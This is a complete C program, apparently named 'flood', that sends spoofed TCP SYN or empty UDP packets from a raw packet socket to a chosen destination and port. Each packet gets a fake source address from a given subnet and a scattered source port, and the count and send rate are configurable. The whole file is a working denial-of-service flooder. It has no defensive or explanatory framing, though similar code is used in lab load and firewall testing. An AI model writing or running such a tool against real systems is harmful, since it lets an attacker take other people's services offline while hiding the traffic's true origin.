/*
 * A flood of first packets: Ethernet frames from a packet socket, with sources that nobody has or one that somebody has.
 *
 *   flood INTERFACE MAC tcp|udp SOURCE LENGTH DESTINATION PORT COUNT RATE
 *
 * COUNT TCP SYNs, or empty UDP datagrams, to DESTINATION, PORT by way of the neighbour MAC. Each has another source: an
 * address within SOURCE/LENGTH and a port from 1024 up. RATE is in packets a second, 0 for as fast as it goes. Says
 * "flooding" before the first packet and "sent COUNT" after the last.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, FIRST_PORT = 1024, PORTS = 65536 - FIRST_PORT };

struct frame {
  struct ether_header ethernet;
  struct iphdr ip;
  union {
    struct tcphdr tcp;
    struct udphdr udp;
  };
} __attribute__((packed));

static void fail(const char *what) {
  fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
  exit(1);
}

static in_addr_t address(const char *text) {
  struct in_addr parsed;
  if (inet_pton(AF_INET, text, &parsed) == 1) return parsed.s_addr;
  fprintf(stderr, "flood: not an address: %s\n", text);
  exit(2);
}

/* A permutation of 0 to 2^32 - 1, so that neighbours in time are none in number and nothing comes twice. */
static uint32_t scatter(uint32_t number) {
  number = (number ^ (number >> 16)) * 0x85ebca6bU;
  number = (number ^ (number >> 13)) * 0xc2b2ae35U;
  return number ^ (number >> 16);
}

static uint16_t fold(uint64_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

static uint64_t add(const void *bytes, size_t length, uint64_t sum) {
  const uint16_t *words = bytes;
  for (size_t index = 0; index < length / 2; index++) sum += words[index];
  return sum;
}

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + (double)time.tv_nsec * 1e-9;
}

int main(int count, char **words) {
  if (count != 10) {
    fprintf(stderr, "usage: flood INTERFACE MAC tcp|udp SOURCE LENGTH DESTINATION PORT COUNT RATE\n");
    return 2;
  }
  const int tcp = strcmp(words[3], "tcp") == 0;
  const uint32_t network = ntohl(address(words[4]));
  const int length = atoi(words[5]);
  const uint32_t hosts = length == 32 ? 0 : 0xffffffffU >> length;
  const uint32_t total = (uint32_t)strtoul(words[8], NULL, 10);
  const double rate = atof(words[9]);
  const size_t transport = tcp ? sizeof(struct tcphdr) : sizeof(struct udphdr);
  const size_t size = sizeof(struct ether_header) + sizeof(struct iphdr) + transport;

  const int fd = socket(AF_PACKET, SOCK_RAW, 0);
  if (fd < 0) fail("socket");
  struct sockaddr_ll where = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(words[1])};
  if (bind(fd, (struct sockaddr *)&where, sizeof where) < 0) fail(words[1]);

  static struct frame frames[BATCH];
  static struct mmsghdr messages[BATCH];
  static struct iovec parts[BATCH];
  for (int index = 0; index < BATCH; index++) {
    struct frame *frame = &frames[index];
    unsigned mac[6];
    if (sscanf(words[2], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6) fail(words[2]);
    for (int octet = 0; octet < 6; octet++) frame->ethernet.ether_dhost[octet] = (uint8_t)mac[octet];
    frame->ethernet.ether_shost[0] = 2;
    frame->ethernet.ether_type = htons(ETHERTYPE_IP);
    frame->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = tcp ? IPPROTO_TCP : IPPROTO_UDP};
    frame->ip.tot_len = htons((uint16_t)(sizeof(struct iphdr) + transport));
    frame->ip.daddr = address(words[6]);
    parts[index] = (struct iovec){.iov_base = frame, .iov_len = size};
    messages[index].msg_hdr = (struct msghdr){.msg_iov = &parts[index], .msg_iovlen = 1};
  }

  printf("flooding\n");
  fflush(stdout);
  const double start = now();
  for (uint32_t sent = 0; sent < total;) {
    const unsigned batch = total - sent < BATCH ? total - sent : BATCH;
    if (rate > 0 && (sent + batch) / rate > now() - start) {
      usleep(1000);
      continue;
    }
    for (unsigned index = 0; index < batch; index++) {
      struct frame *frame = &frames[index];
      const uint32_t number = sent + index;
      const uint16_t port = htons((uint16_t)(FIRST_PORT + scatter(number) % PORTS));
      frame->ip.saddr = htonl(network | (scatter(number) & hosts));
      frame->ip.id = htons((uint16_t)number);
      frame->ip.check = 0;
      frame->ip.check = fold(add(&frame->ip, sizeof frame->ip, 0));
      const uint64_t pseudo = add(&frame->ip.saddr, 8, htons(frame->ip.protocol) + htons((uint16_t)transport));
      if (tcp) {
        frame->tcp = (struct tcphdr){.source = port, .dest = htons((uint16_t)atoi(words[7])), .seq = htonl(scatter(~number)), .doff = 5, .syn = 1, .window = htons(65535)};
        frame->tcp.check = fold(add(&frame->tcp, transport, pseudo));
      } else {
        frame->udp = (struct udphdr){.source = port, .dest = htons((uint16_t)atoi(words[7])), .len = htons((uint16_t)transport)};
        frame->udp.check = fold(add(&frame->udp, transport, pseudo));
      }
    }
    for (unsigned done = 0; done < batch;) {
      const int more = sendmmsg(fd, messages + done, batch - done, 0);
      if (more < 0 && errno != ENOBUFS && errno != EAGAIN) fail("sendmmsg");
      if (more > 0) done += (unsigned)more;
    }
    sent += batch;
  }
  printf("sent %u\n", total);
  return 0;
}
